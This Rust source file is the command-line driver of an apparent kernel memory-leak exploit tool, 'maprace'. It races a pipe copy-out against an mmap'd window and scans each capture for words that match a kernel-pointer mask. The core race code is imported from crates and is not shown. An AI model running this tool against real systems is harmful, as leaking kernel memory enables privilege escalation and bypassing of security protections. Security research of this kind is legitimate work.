use std::{
    fs::File,
    io::{BufWriter, Write},
    sync::Arc,
};

use anyhow::{Result, bail};
use clap::Parser;
use log::{info, warn};
use maprace_bin::{ProgressSink, init_logging_with_progress};
use maprace_core::util::{hexdump, parse_prefixed};
use maprace_core::window::MmapBackend;
use maprace_core::{LeakError, LeakReport, RaceConfig, RaceSession};
use maprace_pattern_scan::{DEFAULT_MAX_CAPTURES, Finding, KERNEL_POINTER_MASK, PatternScan};
use maprace_pipe::PipeCopyout;
use serde::Serialize;

/// CLI arguments for the `leak` binary.
///
/// Races a pipe copy-out of `--marker` words against a window of `size` bytes and scans every
/// capture for a word matching `--mask`/`--value`.
#[derive(Debug, Parser, Serialize, Clone)]
struct CliArgs {
    /// The window size in bytes (decimal, or prefixed with 0x, 0o or 0b).
    #[clap(value_parser = parse_u64)]
    size: u64,
    /// The race config file (JSON). Defaults apply if omitted.
    #[clap(long = "config")]
    config: Option<String>,
    /// Captures to inspect before giving up on finding a match.
    #[clap(long = "max-tries", default_value_t = DEFAULT_MAX_CAPTURES)]
    max_tries: u64,
    /// Mask applied to each 64-bit word of a capture.
    #[clap(long = "mask", value_parser = parse_u64, default_value_t = KERNEL_POINTER_MASK)]
    mask: u64,
    /// Value a masked word must equal (defaults to the mask).
    #[clap(long = "value", value_parser = parse_u64)]
    value: Option<u64>,
    /// The 64-bit word staged in the pipe and copied out to the window.
    #[clap(long = "marker", value_parser = parse_u64, default_value = "0xffff800012345678")]
    marker: u64,
    /// Pin the racer thread to this CPU core.
    #[clap(long = "racer-core")]
    racer_core: Option<usize>,
    /// Output file for the report (JSON format).
    #[clap(long = "output")]
    output: Option<String>,
}

fn parse_u64(s: &str) -> std::result::Result<u64, String> {
    parse_prefixed(s).map_err(|e| format!("Invalid number '{}': {}", s, e))
}

#[derive(Debug, Serialize)]
struct LeakOutput<'a> {
    args: &'a CliArgs,
    config: &'a RaceConfig,
    result: &'a std::result::Result<LeakReport, LeakError>,
    finding: Option<Finding>,
    dump: Option<Vec<String>>,
}

impl LeakOutput<'_> {
    fn save_to_file(&self, filename: &str) -> Result<()> {
        let file = File::create(filename)?;
        let mut writer = BufWriter::new(file);
        serde_json::to_writer_pretty(&mut writer, self)?;
        writer.flush()?;
        info!("Results saved to {}", filename);
        Ok(())
    }
}

fn main() -> Result<()> {
    let progress = init_logging_with_progress()?;
    let args = CliArgs::parse();

    let mut config = match &args.config {
        Some(path) => RaceConfig::from_jsonfile(path)?,
        None => RaceConfig::default(),
    };
    if args.racer_core.is_some() {
        config.racer_core = args.racer_core;
    }
    let size = usize::try_from(args.size)?;
    info!("Racing a {} byte window", size);
    info!("Config: {:?}", config);

    let mut scan = PatternScan::new(args.mask, args.value.unwrap_or(args.mask))
        .with_max_captures(args.max_tries);
    let sink = Arc::new(ProgressSink::new(&progress));
    let session = RaceSession::builder()
        .backend(MmapBackend)
        .operation(PipeCopyout::new(args.marker.to_ne_bytes().to_vec()))
        .sink(sink.clone())
        .config(config.clone())
        .build()?;
    let result = session.leak(size, &mut scan);
    sink.finish();

    let dump = result
        .as_ref()
        .ok()
        .map(|report| hexdump(report.capture.bytes()));
    if let Some(dump) = &dump {
        info!("Accepted capture:\n{}", dump);
    }
    if let Some(output) = &args.output {
        LeakOutput {
            args: &args,
            config: &config,
            result: &result,
            finding: scan.finding(),
            dump: dump.map(|d| d.lines().map(str::to_owned).collect()),
        }
        .save_to_file(output)?;
    }

    let report = result?;
    match scan.finding() {
        Some(finding) => {
            info!(
                "Leaked 0x{:016x} at offset 0x{:x} after {} attempts",
                finding.word, finding.offset, report.counters.total_attempts
            );
            Ok(())
        }
        None => {
            warn!("No matching word in {} captures", scan.captures());
            bail!("Could not leak interesting data")
        }
    }
}
